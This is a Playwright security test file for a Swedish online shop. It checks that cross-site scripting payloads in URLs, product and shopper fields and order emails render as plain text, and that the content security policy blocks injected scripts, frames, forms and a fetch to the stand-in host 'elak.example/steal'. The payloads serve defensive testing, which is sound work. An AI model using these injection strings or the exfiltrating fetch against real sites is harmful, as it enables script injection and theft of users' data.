import type { Page } from '@playwright/test';
import { unique } from '../dev/test/samples.ts';
import { expect, productTest as test } from './support/assortment.ts';
import { mailTo } from './support/inbox.ts';
import { overflowingElements } from './support/overflowing-elements.ts';
import { checkOut, pay, putInCart, thanked } from './support/shopper.ts';

const ATTACKS = [
  '<img src=x onerror="window.attacked=1">',
  '</script><script>window.attacked=1</script>',
  '"><svg onload="window.attacked=1">',
  '{{constructor.constructor("window.attacked=1")()}}',
] as const;

/** The page shows the text literally and no script ran. */
async function expectHarmless(page: Page, text: string): Promise<void> {
  await expect(page.getByText(text).filter({ visible: true }).first()).toBeVisible();
  expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
}

test('Parts of a URL are rendered as text', async ({ page, assortment, watch }) => {
  watch.allow(/status of (404|400)/, /Failed to load resource/);
  const text = encodeURIComponent(ATTACKS.join(' '));
  for (const address of [
    `/produkter?kategori=${text}`,
    `/produkter?kategori=${assortment.category.slug}&sida=${text}&visning=${text}&prisfran=${text}&sort=${text}`,
    `/produkter/${text}`,
    `/seo/kategori/${text}`,
    `/seo/kollektion/${text}`,
    `/tack?payment_intent=${text}&payment_intent_client_secret=${text}&redirect_status=${text}`,
    `/kassa?steg=${text}`,
    `/${text}`,
    `/faq#${text}`,
  ]) {
    await page.goto(address);
    await expect(page.getByRole('heading', { level: 1 }), address).toBeVisible();
    expect(await page.evaluate(() => 'attacked' in window), address).toBe(false);
  }
  await page.goto(`/produkter?search=${text}`);
  await expectHarmless(page, `Sökresultat för ”${ATTACKS.join(' ')}”`);
});

const SLIPPED_IN = [
  '<img src="data:," onerror="window.attacked=1">',
  '<a id="link" href="javascript:window.attacked=1">x</a>',
  '<iframe src="https://elak.example"></iframe>',
  '<form id="form" action="https://elak.example"></form>',
].join('');

test('An injected script does not run and sends nothing', async ({ page, watch }) => {
  watch.allow(/content security policy/i);
  await page.addInitScript(() => {
    const breaches: string[] = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => breaches.push(effectiveDirective));
    Object.assign(window, { breaches });
  });
  await page.goto('/kundvagn');
  // Once the cart is shown as empty, the page is hydrated.
  await expect(page.getByRole('heading', { name: 'Kundvagnen är tom' })).toBeVisible();
  await page.evaluate((html) => {
    const make = (tag: string, facts: object) => Object.assign(document.createElement(tag), facts);
    document.head.append(make('base', { href: 'https://elak.example/' }));
    document.head.append(make('script', { textContent: 'window.attacked=1' }));
    document.head.append(make('script', { src: 'https://elak.example/a.js' }));
    document.querySelector('main')!.insertAdjacentHTML('beforeend', html);
    document.querySelector<HTMLElement>('#link')!.click();
    document.querySelector<HTMLFormElement>('#form')!.submit();
    fetch('https://elak.example/steal').catch(() => undefined);
  }, SLIPPED_IN);
  const breaches = () => page.evaluate(() => (window as unknown as { breaches: string[] }).breaches);
  for (const rule of ['script-src-elem', 'script-src-attr', 'base-uri', 'frame-src', 'form-action', 'connect-src']) {
    await expect.poll(breaches).toContain(rule);
  }
  expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
  expect(await page.evaluate(() => location.pathname)).toBe('/kundvagn');
});

/** No text makes the page wider than a phone or a desktop. */
async function expectFits(page: Page, where: string): Promise<void> {
  const { width, height } = page.viewportSize()!;
  for (const wide of [1440, width]) {
    await page.setViewportSize({ width: wide, height });
    expect.soft(await overflowingElements(page), `${where}, ${wide} px`).toBeLessThanOrEqual(0);
  }
}

test('Texts of products and shoppers are rendered as text, however long, from the list to the email', async ({
  page,
  adminPage,
  backOffice,
  shopper,
}) => {
  const [image, script, vector, template] = ATTACKS;
  const own = unique();
  const product = await backOffice.addProduct({
    name: `${own} ${script} ${'Ljusstake'.repeat(15)}`,
    short_description: image,
    description: `${vector}\n\n${template}`,
  });
  await page.goto(`/produkter?search=${own}`);
  await expectHarmless(page, product.name);
  await expectFits(page, 'list');
  await page.goto(`/produkter/${product.slug}`);
  for (const text of [product.name, image, vector, template]) await expectHarmless(page, text);
  await putInCart(page, product);
  await page.goto('/kundvagn');
  await expectHarmless(page, product.name);
  const firstName = `${image} ${'Anna'.repeat(12)}`;
  await checkOut(page, { ...shopper, firstName, lastName: vector, address: `${script} ${'Storgatan'.repeat(15)}` });
  await expectHarmless(page, `1 × ${product.name}`);
  await expectFits(page, 'payment');
  await pay(page);
  const number = await thanked(page);
  await expectHarmless(page, `1 × ${product.name}`);
  await expectFits(page, 'thanks');

  const { html } = await mailTo(shopper.email, new RegExp(number));
  expect(html).not.toContain('<script>window');
  expect(html).not.toContain('<img src=x');
  expect(html).not.toContain('<svg onload');

  const [order] = await backOffice.ordersOf(shopper.email);
  await adminPage.goto(`/admin/ordrar/${order!.id}`);
  for (const text of [`${firstName} ${vector}`, product.name]) await expectHarmless(adminPage, text);
});

test('Every page blocks external scripts and framing', async ({ request }) => {
  for (const address of ['/', '/produkter', '/kassa', '/tack', '/kontakt', '/angra', '/admin/', '/finns-inte']) {
    const headers = (await request.get(address)).headers();
    const policy = headers['content-security-policy'] ?? '';
    const scripts = policy.split(';').find((rule) => rule.trim().startsWith('script-src')) ?? '';
    expect(scripts, `script-src of ${address}`).not.toBe('');
    expect(scripts, `script-src of ${address}`).not.toMatch(/unsafe-inline|unsafe-eval|\*|data:/);
    expect(policy, `policy of ${address}`).toMatch(/object-src 'none'/);
    expect(policy, `policy of ${address}`).toMatch(/frame-ancestors '(none|self)'/);
    expect(headers['x-content-type-options'], address).toBe('nosniff');
  }
});

test('Anonymous requests read and change nothing private', async ({ request, backOffice }) => {
  const hidden = await backOffice.addProduct({ is_active: false });
  const shown = await backOffice.addProduct();
  for (const address of ['/orders', '/orders/statistics', '/campaign-codes', '/discounts', '/settings/company']) {
    expect((await request.get(`/api${address}`)).status(), address).toBe(401);
  }
  expect((await request.get(`/api/products/${hidden.id}`)).status()).toBe(404);
  expect((await request.get(`/produkter/${hidden.slug}`)).status()).toBe(404);
  expect(await (await request.get(`/api/products/${shown.id}`)).text()).not.toContain('cost_price');
  expect((await request.put(`/api/products/${shown.id}`, { data: { price: 1 } })).status()).toBe(401);
  expect((await request.delete(`/api/products/${shown.id}`)).status()).toBe(401);
});

test("Another site cannot act with an admin's session", async ({ request, backOffice }) => {
  const product = await backOffice.addProduct();
  const answer = await request.put(`/api/products/${product.id}`, {
    data: { price: 1 },
    headers: { origin: 'https://annan-sida.example', cookie: `kronblad_admin=${backOffice.token}` },
  });
  expect(answer.status()).toBe(403);
  expect((await backOffice.product(product.id)).price).toBe(product.price);
});
